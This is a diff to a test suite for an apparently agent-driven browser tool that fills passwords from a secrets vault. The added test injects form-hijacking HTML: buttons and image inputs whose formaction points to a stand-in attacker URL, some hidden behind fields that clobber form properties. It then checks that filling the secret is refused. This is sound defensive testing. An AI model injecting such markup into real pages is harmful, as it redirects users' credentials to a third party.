@@ -39,7 +39,7 @@ after(async () => {
 });
 beforeEach(() => {
   stage.forget();
-  held = session.useSecrets(secrets);
+  held = session.identity.secrets.add(secrets);
 });
 afterEach(() => held[Symbol.dispose]());
 
@@ -133,9 +133,8 @@ describe("on the credential's own site", () => {
     const seen = await session.observe(ObserveRequest.parse({}));
     assertClean(seen);
     assert.match(seen.space.description, /You typed mycoolpassword/);
-    assert.equal(seen.screenshot.raw, "", "a picture would show it");
-    assert.match(seen.space.description, /picture is left out/);
-    await assert.rejects(session.screenshot("png", "raw"), /shows a secret/);
+    assert.notEqual(seen.screenshot.raw, "", "the picture shows it covered");
+    assert.ok((await session.screenshot("png", "raw")).length > 0);
     const scraped = await session.scrape(ScrapeRequest.parse({ only_main_content: false }));
     assertClean(scraped);
     assert.match(scraped.markdown, /mycoolpassword/);
@@ -208,12 +207,31 @@ describe("anywhere else", () => {
     assertClean(stage.attacker.received);
   });
 
-  test("what is no placeholder is filled as it is, and nothing is replaced once the secrets are gone", async () => {
+  test("nor does one that could, by a picture that submits it or behind fields that hide its own", async () => {
+    for (const extra of [
+      `<input type="image" formaction="${stage.attacker.url}/x">`,
+      `<select name="elements"></select><button formaction="${stage.attacker.url}/x">Go</button>`,
+      `<input name="getAttribute"><button formaction="${stage.attacker.url}/x">Go</button>`,
+    ]) {
+      await open("/login");
+      const html = JSON.stringify(extra);
+      const code = `document.forms[0].insertAdjacentHTML("beforeend", ${html})`;
+      await succeed({ type: "evaluate_js", code });
+      const why = await fail(fill("password", placeholders.password));
+      assert.match(why, /sends what is filled in to localhost/, extra);
+    }
+    await open("/login");
+    const code = `document.body.insertAdjacentHTML("beforeend", '<form><button formaction="${stage.attacker.url}/x">Subscribe</button></form>')`;
+    await succeed({ type: "evaluate_js", code });
+    await succeed(fill("password", placeholders.password));
+  });
+
+  test("what is no placeholder is filled as it is, and placeholders are refused once the secrets are gone", async () => {
     await open("/login");
     await succeed(fill("note", "hello"));
     assert.equal(await isHeld("note", "hello"), "true");
     held[Symbol.dispose]();
-    await succeed(fill("password", placeholders.password));
-    assert.equal(await isHeld("password", placeholders.password), "true");
+    assert.match(await fail(fill("password", placeholders.password)), /there is no vault/);
+    assert.equal(await isHeld("password", ""), "true");
   });
 });
